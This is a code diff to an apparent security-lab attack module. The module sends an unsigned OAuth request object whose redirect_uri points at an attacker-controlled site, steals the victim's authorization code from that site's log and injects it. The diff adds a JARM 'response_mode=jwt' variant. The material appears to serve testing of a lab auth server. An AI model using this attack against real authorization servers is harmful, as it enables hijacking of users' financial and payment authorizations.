@@ -17,7 +17,7 @@ from attacker import fixtures
 from attacker import frontchannel as fc
 from attacker.attack_context import AttackContext
 from attacker.attacks import Attack
-from attacker.inject import code_lured_to_site, inject_code
+from attacker.inject import code_lured_to_site, inject_code, jarm_only
 from lab.authserver.clients import TPP_CLIENT_ID
 from lab.jose import b64
 
@@ -34,10 +34,11 @@ def unsigned(claims: dict[str, str]) -> str:
 def run(ctx: AttackContext) -> None:
     fx = fixtures.ensure_running(ctx)
     redirect_uri = fx.site + STEAL_PATH
-    request = unsigned({"response_type": "code", "client_id": TPP_CLIENT_ID,
-                        "redirect_uri": redirect_uri,
-                        "scope": f"{fc.FINLENS_SCOPE} {fc.PAYMENT_SCOPE}",
-                        "state": "unsigned"})
+    params = {"response_type": "code", "client_id": TPP_CLIENT_ID, "redirect_uri": redirect_uri,
+              "scope": f"{fc.FINLENS_SCOPE} {fc.PAYMENT_SCOPE}", "state": "unsigned"}
+    if jarm_only(ctx):
+        params["response_mode"] = "jwt"
+    request = unsigned(params)
     url = ctx.url("as", "/authorize") + "?" + urlencode(
         {"client_id": TPP_CLIENT_ID, "request": request})
     got = code_lured_to_site(
@@ -48,7 +49,7 @@ def run(ctx: AttackContext) -> None:
         missing="no code reached the attacker's site",
         read="reads the victim's code from its own site's log")
     inject_code(ctx, got["code"], got["victim"], iss=got.get("iss"),
-                source="its site received")
+                source="its site received", response=got.get("response"))
 
 
 ATTACK = Attack(
